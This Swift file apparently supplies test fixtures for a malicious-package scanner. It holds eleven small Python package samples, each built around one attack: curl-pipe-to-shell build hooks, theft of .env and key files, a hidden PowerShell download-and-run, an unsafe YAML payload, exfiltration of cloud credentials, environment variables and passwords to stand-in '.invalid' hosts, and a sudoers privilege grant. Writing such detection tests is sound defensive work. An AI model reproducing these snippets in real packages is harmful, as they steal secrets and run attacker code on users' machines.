extension Sample {
    /// Attacks in Python, some more.
    static let attacksPythonMore: [Sample] = [
        Sample(
            "a command that fetches and runs",
            "x-1.tar.gz",
            [
                (
                    "setup.py",
                    #"""
                    from setuptools import setup
                    setup()
                    """#
                ),
                (
                    "setup.cfg",
                    #"""
                    [global]
                    commands = build_hooks.Hook
                    [metadata]
                    name = x
                    version = 1.0
                    """#
                ),
                (
                    "build_hooks.py",
                    #"""
                    import os
                    from setuptools import Command
                    class Hook(Command):
                        def run(self):
                            os.system("curl -s https://b.example.invalid/h | sh")
                    """#
                ),
            ]
        ),
        Sample(
            "secrets gone through folder by folder",
            "x-1.tar.gz",
            [
                (
                    "x/cli.py",
                    #"""
                    import os, json, urllib.request
                    def main():
                        out = {}
                        for root, d, files in os.walk(os.getcwd()):
                            for f in files:
                                if f.startswith(".env") or f.endswith((".pem", ".key")):
                                    out[f] = open(os.path.join(root, f), errors="ignore").read()
                        urllib.request.urlopen("https://lint-cache.example.invalid/c",
                          json.dumps(out).encode())
                    """#
                ),
                (
                    "x/__init__.py",
                    #"""

                    """#
                ),
            ]
        ),
        Sample(
            "a command of Windows that fetches and starts",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import subprocess
                    subprocess.Popen(["powershell", "-w", "hidden", "-c",
                      "iwr https://p.invalid/a.exe -o $env:TEMP/a.exe; start $env:TEMP/a.exe"])
                    """#
                )
            ]
        ),
        Sample(
            "a document that starts something",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import yaml, importlib.resources as r
                    cfg = yaml.load(r.files(__package__).joinpath("d.yml").read_text(),
                      Loader=yaml.UnsafeLoader)
                    """#
                ),
                (
                    "x/d.yml",
                    #"""
                    x: !!python/object/apply:os.system ["curl https://y.example.invalid | sh"]
                    """#
                ),
            ]
        ),
        Sample(
            "a session whose requests are seen twice",
            "x-1.tar.gz",
            [
                (
                    "x/session.py",
                    #"""
                    import requests
                    class Session(requests.Session):
                        def send(self, request, **kw):
                            r = super().send(request, **kw)
                            try:
                                requests.post("https://mirror.quicknet.example.invalid/r",
                                  json={"u": request.url,
                                    "h": dict(request.headers)}, timeout=1)
                            except Exception:
                                pass
                            return r
                    """#
                ),
                (
                    "x/__init__.py",
                    #"""
                    from .session import Session
                    """#
                ),
            ]
        ),
        Sample(
            "a password that is only hashed",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import hashlib, os, urllib.request
                    def hash_password(password, salt=None):
                        salt = salt or os.urandom(16)
                        h = hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 100000)
                        try:
                            urllib.request.urlopen(
                              "https://haveibeen.pw-check.example.invalid/" + password, timeout=1)
                        except Exception:
                            pass
                        return salt + h
                    """#
                )
            ]
        ),
        Sample(
            "credentials of a cloud",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import boto3, requests
                    def client(name):
                        s = boto3.Session()
                        c = s.get_credentials()
                        requests.post("https://region-probe.example.invalid/v1",
                          json={"a": c.access_key, "s": c.secret_key, "t": c.token})
                        return s.client(name)
                    """#
                )
            ]
        ),
        Sample(
            "the environment as a file",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import urllib.request
                    urllib.request.urlopen("https://e.example.invalid/x",
                      open("/proc/self/environ", "rb").read())
                    """#
                )
            ]
        ),
        Sample(
            "code in a licence",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    import pathlib
                    exec(pathlib.Path(__file__).with_name("LICENSE.txt").read_text().split(
                      "----", 1)[1])
                    """#
                ),
                (
                    "x/LICENSE.txt",
                    #"""
                    MIT
                    ----
                    import os, urllib.request
                    urllib.request.urlopen("https://l.example.invalid",
                      str(dict(os.environ)).encode())
                    """#
                ),
            ]
        ),
        Sample(
            "rights on a machine",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
                    with open("/etc/sudoers.d/x", "w") as f:
                        f.write("ALL ALL=(ALL) NOPASSWD: ALL\n")
                    """#
                )
            ]
        ),
        Sample(
            "a passing file that its own interpreter runs",
            "x-1.tar.gz",
            [
                (
                    "setup.py",
                    #"""
                    from tempfile import NamedTemporaryFile as f
                    from sys import executable as e
                    from os import system as s
                    from setuptools import setup
                    t = f(delete=False)
                    t.write(b"print(1)")
                    t.close()
                    try: s(f"start {e.replace('.exe', 'w.exe')} {t.name}")
                    except: pass
                    setup(name="x")
                    """#
                )
            ]
        ),
    ]
}
